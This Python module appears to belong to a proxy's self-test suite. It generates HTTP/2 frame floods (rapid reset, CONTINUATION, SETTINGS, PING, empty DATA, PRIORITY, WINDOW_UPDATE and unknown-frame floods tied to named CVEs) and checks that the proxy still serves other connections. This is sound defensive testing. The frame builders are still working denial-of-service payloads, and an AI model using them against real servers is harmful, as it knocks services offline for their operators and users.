"""Floods of small frames."""

from collections.abc import Callable, Iterator
from functools import partial
from itertools import repeat
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.floods import unserved
from bottle.selftest.probes.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    OPENING,
    PING,
    RESET,
    SETTINGS,
    block,
    frame,
    head,
    request,
)

_STREAMS = 1000
_FRAMES = 20000
_PART = block([(b"x", b"y" * 60)])
_WINDOW, _PRIORITY = 8, 2


@attack(
    aim="proxy",
    source="CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION), CVE-2019-9512 and CVE-2019-9515 "
    "(PING and SETTINGS), CVE-2019-9518 (empty frames)",
    expects="another connection's request is answered with 200",
    control="nobody_who_serves",
    outside=True,
    every=True,
    alone=True,
)
def attempts(aim: Any) -> Iterator[Attempt]:
    """Floods a connection with resets, continuations, settings, pings and empty frames."""
    floods: dict[str, Callable[[], Iterator[bytes]]] = {
        "rapid reset": resets,
        "CONTINUATION": continuations,
        "SETTINGS": partial(repeat, frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff"), _FRAMES),
        "PING": partial(repeat, frame(PING, 0, 0, b"12345678"), _FRAMES),
        "empty DATA": _empty,
        "PRIORITY": partial(repeat, frame(_PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10"), _FRAMES),
        "WINDOW_UPDATE": partial(repeat, frame(_WINDOW, 0, 0, b"\x00\x00\x00\x01"), _FRAMES),
        "unknown frames": partial(repeat, frame(0xEE, 0xFF, 0, b"x" * 200), _FRAMES),
    }
    for what, flood in floods.items():
        yield what, partial(_flooded, aim, flood)


def _flooded(aim: Any, flood: Callable[[], Iterator[bytes]]) -> str | None:
    def whole() -> Iterator[bytes]:
        yield OPENING
        yield from flood()

    return unserved(aim, whole())


def resets() -> Iterator[bytes]:
    for stream in range(1, 2 * _STREAMS, 2):
        yield request(head(b"/v1/permitted"), stream) + frame(RESET, 0, stream, b"\x00\x00\x00\x08")


def continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, block(head(b"/v1/permitted")))
    yield from repeat(frame(CONTINUATION, 0, 1, _PART), _FRAMES)


def _empty() -> Iterator[bytes]:
    yield request(head(b"/v1/permitted", method=b"POST"), 1, END_HEADERS)
    yield from repeat(frame(DATA, 0, 1), _FRAMES)
